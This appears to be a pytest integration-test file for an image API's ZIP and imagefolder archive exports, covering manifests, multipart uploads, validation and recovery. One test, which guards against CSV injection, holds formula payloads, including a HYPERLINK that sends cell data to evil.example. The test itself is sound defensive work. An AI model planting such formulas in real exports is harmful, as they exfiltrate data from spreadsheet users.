"""ZIP archives: built in S3 through a multipart upload, opened and checked."""

from __future__ import annotations

import csv
import io
import json
import os
import time
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import boto3
import pytest
import requests
from PIL import Image
from ulid import ULID

from chalicelib.db import ImageModel
from chalicelib.db.images import save_new_image
from chalicelib.db.jobs import ArchiveModel
from chalicelib.jobs import recovery
from chalicelib.services import archives
from chalicelib.settings import get_settings
from chalicelib.storage.multipart import MultipartZipSink
from chalicelib.timefmt import iso8601
from devstack.prompts import parti_prompts
from tests import openapi_check
from tests.fixtures.worker import wait_for

MODEL = "black-forest-labs/FLUX.1-schnell"


def make_images(user: str, n: int, collection: str | None = None, steps: int | None = 4) -> list[ImageModel]:
    """``n`` small stored images (object + metadata) with distinct prompts and seeds
    (``steps`` None: as a model that takes no steps stores them)."""
    s3 = boto3.client("s3")
    bucket = get_settings().images_bucket
    base = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    images = []
    for i in range(n):
        out = io.BytesIO()
        Image.new("RGB", (64, 48), ((i * 37) % 256, (i * 91) % 256, 120)).save(out, format="JPEG")
        image_id = str(ULID())
        key = f"users/{user}/images/{image_id}.jpg"
        s3.put_object(Bucket=bucket, Key=key, Body=out.getvalue(), ContentType="image/jpeg")
        images.append(
            ImageModel(
                user,
                image_id,
                prompt=f"prompt number {i}, with a comma and “quotes”",
                model=MODEL,
                width=64,
                height=48,
                steps=steps,
                seed=1000 + i,
                collection=collection,
                user_collection=f"{user}#{collection}" if collection else None,
                s3_key=key,
                thumb_key=f"users/{user}/images/{image_id}.thumb.webp",
                bytes=len(out.getvalue()),
                content_type="image/jpeg",
                created_at=base + timedelta(seconds=i),
            )
        )
    for image in images:  # the app's write path: collection counters move with the items
        save_new_image(image)
    return images


def open_zip(url: str) -> zipfile.ZipFile:
    data = requests.get(url, timeout=10).content
    return zipfile.ZipFile(io.BytesIO(data))


def check_manifest(zf: zipfile.ZipFile, images: list[ImageModel]) -> None:
    assert zf.testzip() is None  # every CRC checks
    names = zf.namelist()
    assert names[-1] == "manifest.csv" and len(names) == len(images) + 1
    rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"))))
    assert list(rows[0]) == ["file", "prompt", "seed", "model", "width", "height", "steps", "created_at"]
    s3 = boto3.client("s3")
    for row, image in zip(rows, images, strict=True):
        assert row["file"].endswith(f"{image.image_id}.jpg") and row["file"] in names
        assert row["prompt"] == image.prompt and int(row["seed"]) == int(image.seed)
        assert row["model"] == image.model and row["steps"] == ("" if image.steps is None else str(int(image.steps)))
        assert (int(row["width"]), int(row["height"])) == (int(image.width), int(image.height))
        assert row["created_at"] == iso8601(image.created_at)
        body = s3.get_object(Bucket=get_settings().images_bucket, Key=image.s3_key)["Body"].read()
        assert zf.read(row["file"]) == body
    for info in zf.infolist():
        assert not info.flag_bits & 0x08  # local headers carry real sizes: no data descriptors


def test_a_zip_of_100_images_opens_and_its_manifest_matches(api, worker):
    images = make_images("zipper", 100)
    worker.start()
    reply = api.post("/v1/archives", user="zipper", json_body={"image_ids": [i.image_id for i in images]})
    assert reply.status == 202, reply.body  # over the inline size: built by the worker
    openapi_check.check("/v1/archives", "POST", 202, reply.json)
    archive_id = reply.json["archive_id"]
    # queued, or already building: the worker may lease it before the API records enqueued_at
    # (that update reads the item back)
    assert reply.json["status"] in ("queued", "building") and reply.json["url"] is None
    ready = wait_for(
        lambda: (r := api.get(f"/v1/archives/{archive_id}", user="zipper").json)["status"] == "ready" and r,
        what="(archive to be built)",
    )
    openapi_check.check("/v1/archives/{archive_id}", "GET", 200, ready)
    assert ready["image_count"] == 100 and ready["bytes"] > 0
    key = f"archives/zipper/{archive_id}.zip"
    head = boto3.client("s3").head_object(Bucket=get_settings().images_bucket, Key=key)
    assert head["ContentLength"] == ready["bytes"] and head["ContentType"] == "application/zip"
    check_manifest(open_zip(ready["url"]), images)
    assert api.get(f"/v1/archives/{archive_id}", user="someone-else").status == 404


def test_multipart_zip_sink_streams_parts_with_bounded_memory(aws, app_env):
    """Three 6 MiB incompressible images through 5 MiB parts: several real parts (S3, and
    moto, refuse a non-last part under 5 MiB), and the buffer never holds more than a part
    plus an image."""
    user = "big"
    s3 = boto3.client("s3")
    bucket = get_settings().images_bucket
    images = make_images(user, 3)
    blobs = [os.urandom(6 * 1024 * 1024) for _ in images]
    for image, blob in zip(images, blobs, strict=True):
        s3.put_object(Bucket=bucket, Key=image.s3_key, Body=blob)
    part = 5 * 1024 * 1024
    sink = MultipartZipSink(bucket, "archives/big/test.zip", part)
    assert archives.write_zip(sink, images) == 3
    size = sink.complete()
    assert len(sink._parts) >= 3  # every part but the last is exactly 5 MiB
    assert sink.peak_buffer <= part + 6 * 1024 * 1024 + 64 * 1024
    data = s3.get_object(Bucket=bucket, Key="archives/big/test.zip")["Body"].read()
    assert len(data) == size
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.testzip() is None
        assert [zf.read(n) for n in zf.namelist()[:3]] == blobs


def test_job_and_collection_archives_and_validation(api, worker):
    images = make_images("albums", 5, collection="trip")
    made = api.post("/v1/collections/trip/archive", user="albums")
    assert made.status == 201, made.body  # small: built inline
    openapi_check.check("/v1/collections/{name}/archive", "POST", 201, made.json)
    assert made.json["status"] == "ready" and made.json["source"] == "collection"
    check_manifest(open_zip(made.json["url"]), images)
    listed = api.get("/v1/collections", user="albums").json
    assert listed == {"collections": [{"name": "trip", "image_count": 5}], "truncated": False}
    chosen = api.post("/v1/archives", user="albums", json_body={"image_ids": [images[3].image_id, images[1].image_id]})
    assert chosen.status == 201
    check_manifest(open_zip(chosen.json["url"]), [images[3], images[1]])
    for body, field in [
        ({}, "image_ids"),
        ({"image_ids": []}, "image_ids"),
        ({"image_ids": "x"}, "image_ids"),
        ({"image_ids": [images[0].image_id, "nope"]}, "image_ids[1]"),
        ({"image_ids": [str(ULID()) for _ in range(1001)]}, "image_ids"),
        ({"image_ids": [images[0].image_id], "format": "tar"}, "format"),
    ]:
        reply = api.post("/v1/archives", user="albums", json_body=body)
        assert reply.status == 400 and reply.json["error"]["field"] == field, (body, reply.body)
    theirs = api.post("/v1/archives", user="thief", json_body={"image_ids": [images[0].image_id]})
    assert theirs.status == 404
    assert api.post("/v1/collections/trip/archive", user="thief").status == 404
    assert api.post("/v1/collections/nowhere/archive", user="albums").status == 404
    assert api.get(f"/v1/archives/{made.json['archive_id']}", user="thief").status == 404
    job = api.post("/v1/jobs", user="albums", json_body={"prompts": ["x"], "width": 256, "height": 256})
    empty = api.post(f"/v1/jobs/{job.json['job_id']}/archive", user="albums")
    assert empty.status == 409 and empty.json["error"]["code"] == "nothing-to-archive"


def test_images_of_models_without_steps_archive_with_an_empty_steps_cell(api, worker):
    images = make_images("pro", 3, collection="pro-shots", steps=None)
    made = api.post("/v1/collections/pro-shots/archive", user="pro")
    assert made.status == 201 and made.json["status"] == "ready", made.body
    check_manifest(open_zip(made.json["url"]), images)


def test_manifest_cells_that_look_like_formulas_open_as_text(api, worker):
    """OWASP CSV injection: a prompt starting with = + - @, tab or CR is written to
    manifest.csv with a leading single quote; the JSON API keeps the exact prompt."""
    real = parti_prompts()[100:106]
    attacks = [
        f'=HYPERLINK("http://evil.example/?"&A1,"{real[0]}")',
        f"+1+1 {real[1]}",
        f"@SUM(1,1) {real[2]}",
        f"-2+3 {real[3]}",
        f"\t=1+1 {real[4]}",
        f"\r=1+1 {real[5]}",
    ]
    images = make_images("formulas", len(attacks))
    for image, prompt in zip(images, attacks, strict=True):
        image.prompt = prompt
        image.save()
    made = api.post("/v1/archives", user="formulas", json_body={"image_ids": [i.image_id for i in images]})
    assert made.status == 201, made.body
    zf = open_zip(made.json["url"])
    rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"), newline="")))
    assert [row["prompt"] for row in rows] == ["'" + p for p in attacks]
    assert [row["model"] for row in rows] == [MODEL] * len(attacks)  # other cells untouched
    for image, prompt in zip(images, attacks, strict=True):
        assert api.get(f"/v1/images/{image.image_id}", user="formulas").json["prompt"] == prompt


def archives_of(user: str) -> list[ArchiveModel]:
    return list(ArchiveModel.query(user, consistent_read=True))


def test_identical_archive_requests_share_one_build(api, worker):
    """Same user, same selection, while it builds or is freshly ready: the same archive."""
    images = make_images("twice", 25)  # over the inline size: queued
    ids = [i.image_id for i in images]
    first = api.post("/v1/archives", user="twice", json_body={"image_ids": ids})
    again = api.post("/v1/archives", user="twice", json_body={"image_ids": ids})
    assert first.status == again.status == 202, again.body
    assert again.json["archive_id"] == first.json["archive_id"]
    other_order = api.post("/v1/archives", user="twice", json_body={"image_ids": ids[::-1]})
    assert other_order.json["archive_id"] != first.json["archive_id"]  # another selection, another ZIP
    theirs = make_images("twice-other", 1)
    mine_small = api.post("/v1/archives", user="twice", json_body={"image_ids": ids[:3]})
    assert mine_small.status == 201
    repeat = api.post("/v1/archives", user="twice", json_body={"image_ids": ids[:3]}).json
    minted_per_answer = {"url"}  # a fresh presigned URL each time
    assert {k: v for k, v in repeat.items() if k not in minted_per_answer} == {
        k: v for k, v in mine_small.json.items() if k not in minted_per_answer
    }
    other_user = api.post("/v1/archives", user="twice-other", json_body={"image_ids": [theirs[0].image_id]})
    assert other_user.status == 201 and other_user.json["archive_id"] != mine_small.json["archive_id"]
    assert len(archives_of("twice")) == 3  # the duplicates left no record behind
    worker.start()
    archive_id = first.json["archive_id"]
    wait_for(
        lambda: api.get(f"/v1/archives/{archive_id}", user="twice").json["status"] == "ready",
        what="(archive to be built)",
    )
    ready = api.post("/v1/archives", user="twice", json_body={"image_ids": ids})
    assert ready.status == 201 and ready.json["archive_id"] == archive_id and ready.json["status"] == "ready"
    # a failed archive is not handed out again: the next request builds a new one
    ArchiveModel("twice", mine_small.json["archive_id"]).update(actions=[ArchiveModel.status.set("failed")])
    fresh = api.post("/v1/archives", user="twice", json_body={"image_ids": ids[:3]})
    assert fresh.status == 201 and fresh.json["archive_id"] != mine_small.json["archive_id"]


def saved_archive(user: str, image_ids: list[str], status: str, **attrs) -> ArchiveModel:
    """An archive record as a request (or a build that died) left it."""
    archive_id = str(ULID())
    archive = ArchiveModel(
        user,
        archive_id,
        status=status,
        source="images",
        image_ids=image_ids,
        s3_key=archives.archive_key(user, archive_id),
        image_count=len(image_ids),
        **{"attempts": 0, **attrs},
    )
    archive.save()
    return archive


def test_the_sweep_finishes_archives_whose_enqueue_or_inline_setup_failed(api, worker):
    """SQS unreachable at enqueue: the archive answers queued and the sweep sends it
    later. S3 refusing the multipart upload of an inline build: the archive goes back to
    queued and on the queue, not building forever. A build that died holding its lease
    is resent by the sweep; one still unfinished past the give-up age is failed."""
    images = make_images("stuck", 25)
    ids = [i.image_id for i in images]
    queue_name, bucket = get_settings().jobs_queue_name, get_settings().images_bucket
    worker.configure(JOBS_QUEUE_NAME="promptcanvas-no-such-queue")
    queued = api.post("/v1/archives", user="stuck", json_body={"image_ids": ids})
    assert queued.status == 202 and queued.json["status"] == "queued", queued.body
    worker.configure(JOBS_QUEUE_NAME=queue_name, IMAGES_BUCKET="promptcanvas-no-such-bucket")
    inline = api.post("/v1/archives", user="stuck", json_body={"image_ids": ids[:2]})
    assert inline.status == 202 and inline.json["status"] == "queued", inline.body
    worker.configure(IMAGES_BUCKET=bucket)
    # a build that died holding its lease (no message left), and one abandoned long ago
    died = ArchiveModel.get("stuck", inline.json["archive_id"])
    now = time.time()
    crashed = saved_archive("stuck", ids[:4], "building", created_at=now - 700, attempts=1, lease_until=now - 1)
    abandoned = saved_archive("stuck", ids[:5], "queued", created_at=now - archives.ARCHIVE_GIVE_UP_S - 10)
    report = recovery.sweep(now=now + archives.ARCHIVE_ENQUEUE_GRACE_S + 1).as_dict()
    assert report["counts"]["archives_failed"] == 1
    assert report["counts"]["archives_resent"] == 2  # the never-enqueued one and the crashed build
    assert ArchiveModel.get("stuck", abandoned.archive_id).status == "failed"
    worker.start()
    for archive_id in (queued.json["archive_id"], died.archive_id, crashed.archive_id):
        wait_for(
            lambda a=archive_id: api.get(f"/v1/archives/{a}", user="stuck").json["status"] == "ready",
            what=f"(archive {archive_id} to be built)",
        )
    counts = recovery.sweep().as_dict()["counts"]
    assert "archives_failed" not in counts and "archives_resent" not in counts


def load_imagefolder(url: str, into: Path):
    """Download the export at ``url``, unpack it into ``into`` and load it with the real
    ``datasets`` library, as a user would: ``load_dataset("imagefolder", data_dir=...)``."""
    from datasets import load_dataset

    open_zip(url).extractall(into / "export")
    return load_dataset("imagefolder", data_dir=str(into / "export"), cache_dir=str(into / "hf-cache"))["train"]


def metadata_rows(url: str) -> list[dict]:
    text = open_zip(url).read("train/metadata.jsonl").decode("utf-8")
    return [json.loads(line) for line in text.splitlines()]


def test_imagefolder_export_of_text_to_image_results_loads_in_datasets(api, worker, tmp_path):
    """format=imagefolder: train/ with the images and metadata.jsonl (file_name, prompt,
    seed, model, width, height, steps); datasets loads one row per image, in order."""
    prompts = parti_prompts()[200:203]
    images = make_images("hf", len(prompts), collection="dataset")
    for image, prompt in zip(images, prompts, strict=True):
        image.prompt = prompt
        image.save()
    made = api.post("/v1/collections/dataset/archive", user="hf", json_body={"format": "imagefolder"})
    assert made.status == 201, made.body
    openapi_check.check("/v1/collections/{name}/archive", "POST", 201, made.json)
    assert made.json["format"] == "imagefolder" and made.json["image_count"] == 3
    zf = open_zip(made.json["url"])
    assert zf.testzip() is None
    assert sorted(zf.namelist()) == sorted(
        [f"train/{n:04d}-{i.image_id}.jpg" for n, i in enumerate(images, start=1)] + ["train/metadata.jsonl"]
    )
    rows = metadata_rows(made.json["url"])
    assert [list(row) for row in rows] == [["file_name", "prompt", "seed", "model", "width", "height", "steps"]] * 3
    dataset = load_imagefolder(made.json["url"], tmp_path)
    assert dataset.num_rows == 3
    assert dataset.column_names == ["image", "prompt", "seed", "model", "width", "height", "steps"]
    for row, image in zip(dataset, images, strict=True):
        row["image"].load()  # every image decodes
        assert row["image"].size == (int(image.width), int(image.height))
        assert (row["prompt"], row["seed"], row["model"], row["steps"]) == (
            image.prompt,
            int(image.seed),
            MODEL,
            int(image.steps),
        )
    # the default and an explicit zip stay the flat ZIP with manifest.csv: another archive
    plain = api.post("/v1/collections/dataset/archive", user="hf", json_body={"format": "zip"})
    assert plain.status == 201 and plain.json["format"] == "zip"
    assert plain.json["archive_id"] != made.json["archive_id"]
    check_manifest(open_zip(plain.json["url"]), images)
    default = api.post("/v1/collections/dataset/archive", user="hf")
    assert default.json["archive_id"] == plain.json["archive_id"]
    again = api.post("/v1/collections/dataset/archive", user="hf", json_body={"format": "imagefolder"})
    assert again.json["archive_id"] == made.json["archive_id"]
    chosen = api.post("/v1/archives", user="hf", json_body={"image_ids": [images[2].image_id], "format": "imagefolder"})
    assert chosen.status == 201 and [r["file_name"] for r in metadata_rows(chosen.json["url"])] == [
        f"0001-{images[2].image_id}.jpg"
    ]


def test_archive_format_is_validated_on_every_archive_route(api, worker):
    images = make_images("fmt", 1, collection="c")
    job = api.post("/v1/jobs", user="fmt", json_body={"prompts": ["x"], "width": 256, "height": 256})
    routes = ["/v1/collections/c/archive", f"/v1/jobs/{job.json['job_id']}/archive"]
    for path in routes:
        for body, field in [
            ({"format": "tar"}, "format"),
            ({"format": None}, "format"),
            ({"format": ["imagefolder"]}, "format"),
            ({"format": "ImageFolder"}, "format"),
            ({"fromat": "zip"}, "fromat"),
        ]:
            reply = api.post(path, user="fmt", json_body=body)
            assert reply.status == 400 and reply.json["error"]["field"] == field, (path, body, reply.body)
        assert api.post(path, user="fmt", body=b"[]", headers={"Content-Type": "application/json"}).status == 400
    reply = api.post("/v1/archives", user="fmt", json_body={"image_ids": [images[0].image_id], "format": "parquet"})
    assert reply.status == 400 and reply.json["error"]["field"] == "format"
    theirs = api.post("/v1/collections/c/archive", user="fmt-thief", json_body={"format": "imagefolder"})
    assert theirs.status == 404


def disc(fmt: str, colour: tuple[int, int, int]) -> bytes:
    """A 256x256 picture (a disc on a plain ground), encoded as ``fmt``."""
    from PIL import ImageDraw

    img = Image.new("RGB", (256, 256), (235, 235, 235))
    ImageDraw.Draw(img).ellipse((40, 40, 216, 216), fill=colour)
    out = io.BytesIO()
    img.save(out, format=fmt)
    return out.getvalue()


def ready_uploads(api, worker, user: str, pictures: list[tuple[str, str, bytes]]) -> list[str]:
    """Upload ``(filename, content type, bytes)`` through the presigned POST; wait until each is ready."""
    from tests.integration.test_uploads import upload, wait_verdict

    ids = [upload(api, user, data, ctype, filename, collection="inputs") for filename, ctype, data in pictures]
    for upload_id in ids:
        assert wait_verdict(api, worker, user, upload_id)["status"] == "ready"
    return ids


def wait_job(api, user: str, job_id: str) -> dict:
    return wait_for(
        lambda: (j := api.get(f"/v1/jobs/{job_id}", user=user).json)["status"] not in ("queued", "running") and j,
        timeout_s=90,
        what=f"(job {job_id} to finish)",
    )


def generate(api, user: str, body: dict) -> dict:
    reply = api.post("/v1/images", user=user, json_body={"width": 256, "height": 256, **body})
    assert reply.status == 201, reply.body
    return reply.json["images"][0]


I2I_COLUMNS = ["input_file_name", "output_file_name", "prompt", "seed", "model", "width", "height", "steps"]
KONTEXT = "black-forest-labs/FLUX.1-kontext-pro"
MULTI_REFERENCE = "black-forest-labs/FLUX.2-pro"


def test_imagefolder_export_pairs_inputs_with_outputs_and_loads_in_datasets(api, worker, tmp_path):
    """Image-to-image through the real API: two uploads (a PNG and a JPEG) edited with
    POST /v1/images, exported as imagefolder: input_file_name and output_file_name (no plain
    file_name, which datasets would read for both image columns), each input stored once, and
    datasets loads one row per result whose input is the uploaded picture. A result made from
    two references adds reference_file_names (a list of images in datasets)."""
    user = "pairs"
    worker.start()
    red, blue = (210, 30, 30), (30, 30, 210)
    ids = ready_uploads(
        api, worker, user, [("red.png", "image/png", disc("PNG", red)), ("blue.jpg", "image/jpeg", disc("JPEG", blue))]
    )
    prompts = parti_prompts()[300:303]
    edits = [generate(api, user, {"prompt": prompts[0], "model": KONTEXT, "image_id": i}) for i in ids]
    again = generate(api, user, {"prompt": prompts[1], "model": KONTEXT, "image_id": ids[0]})  # same input again
    made = api.post(
        "/v1/archives", user=user, json_body={"image_ids": [e["id"] for e in [*edits, again]], "format": "imagefolder"}
    )
    assert made.status == 201, made.body
    openapi_check.check("/v1/archives", "POST", 201, made.json)
    rows = metadata_rows(made.json["url"])
    assert [list(row) for row in rows] == [I2I_COLUMNS] * 3
    assert [row["input_file_name"].rsplit(".", 1)[0] for row in rows] == [f"input-{i}" for i in [*ids, ids[0]]]
    names = open_zip(made.json["url"]).namelist()
    inputs = {f"train/{r['input_file_name']}" for r in rows}
    assert len(inputs) == 2  # the input edited twice is stored once
    assert sorted(names) == sorted(["train/metadata.jsonl", *inputs, *(f"train/{r['output_file_name']}" for r in rows)])
    dataset = load_imagefolder(made.json["url"], tmp_path / "edit")
    assert dataset.num_rows == 3
    assert dataset.column_names == ["input", "output", "prompt", "seed", "model", "width", "height", "steps"]
    for row, colour, prompt in zip(dataset, [red, blue, red], [prompts[0], prompts[0], prompts[1]], strict=True):
        row["input"].load()
        row["output"].load()
        assert row["input"].size == (256, 256) and row["output"].size == (256, 256)
        assert row["input"].convert("RGB").getpixel((128, 128)) == pytest.approx(colour, abs=8)
        assert row["prompt"] == prompt and row["model"] == KONTEXT

    # several references: the first is the input, the rest a list column
    multi = generate(api, user, {"prompt": prompts[2], "model": MULTI_REFERENCE, "reference_image_ids": ids[::-1]})
    made = api.post(
        "/v1/archives", user=user, json_body={"image_ids": [edits[0]["id"], multi["id"]], "format": "imagefolder"}
    )
    assert made.status == 201, made.body
    rows = metadata_rows(made.json["url"])
    assert [list(row) for row in rows] == [[*I2I_COLUMNS, "reference_file_names"]] * 2
    assert rows[0]["reference_file_names"] == [] and len(rows[1]["reference_file_names"]) == 1
    assert rows[1]["input_file_name"].startswith(f"input-{ids[1]}.")
    dataset = load_imagefolder(made.json["url"], tmp_path / "refs")
    assert dataset.column_names == ["input", "output", *I2I_COLUMNS[2:], "reference"]
    assert [len(row["reference"]) for row in dataset] == [0, 1]
    reference = dataset[1]["reference"][0]
    assert reference.convert("RGB").getpixel((128, 128)) == pytest.approx(red, abs=8)


def test_imagefolder_export_of_image_jobs(api, worker, tmp_path):
    """The job shapes with images in, exported: one prompt over uploads (a row per image, its
    upload as input) and sets with n (each set's references, the inputs stored once)."""
    user = "job-pairs"
    worker.start()
    colours = [(200, 40, 40), (40, 200, 40)]
    ids = ready_uploads(api, worker, user, [(f"c{i}.png", "image/png", disc("PNG", c)) for i, c in enumerate(colours)])
    prompts = parti_prompts()[310:313]
    over = api.post(
        "/v1/jobs",
        user=user,
        json_body={"prompt": prompts[0], "image_ids": ids, "model": KONTEXT, "width": 256, "height": 256},
    )
    assert over.status == 202, over.body
    assert wait_job(api, user, over.json["job_id"])["counts"]["succeeded"] == 2
    made = api.post(f"/v1/jobs/{over.json['job_id']}/archive", user=user, json_body={"format": "imagefolder"})
    assert made.status == 201, made.body
    openapi_check.check("/v1/jobs/{job_id}/archive", "POST", 201, made.json)
    dataset = load_imagefolder(made.json["url"], tmp_path / "over")
    assert dataset.num_rows == 2 and dataset.column_names == ["input", "output", *I2I_COLUMNS[2:]]
    for row, colour in zip(dataset, colours, strict=True):
        assert row["input"].convert("RGB").getpixel((128, 128)) == pytest.approx(colour, abs=8)
        row["output"].load()

    sets = api.post(
        "/v1/jobs",
        user=user,
        json_body={
            "sets": [{"prompt": prompts[1], "image_ids": ids}, {"prompt": prompts[2], "image_ids": ids[::-1]}],
            "n": 2,
            "model": MULTI_REFERENCE,
            "width": 256,
            "height": 256,
        },
    )
    assert sets.status == 202, sets.body
    assert wait_job(api, user, sets.json["job_id"])["counts"]["succeeded"] == 4
    made = api.post(f"/v1/jobs/{sets.json['job_id']}/archive", user=user, json_body={"format": "imagefolder"})
    assert made.status == 201, made.body
    rows = metadata_rows(made.json["url"])
    assert [row["prompt"] for row in rows] == [prompts[1]] * 2 + [prompts[2]] * 2
    assert all(list(row) == [*I2I_COLUMNS, "reference_file_names"] for row in rows)
    assert len([n for n in open_zip(made.json["url"]).namelist() if n.startswith("train/input-")]) == 2
    dataset = load_imagefolder(made.json["url"], tmp_path / "sets")
    assert dataset.num_rows == 4 and [len(row["reference"]) for row in dataset] == [1] * 4
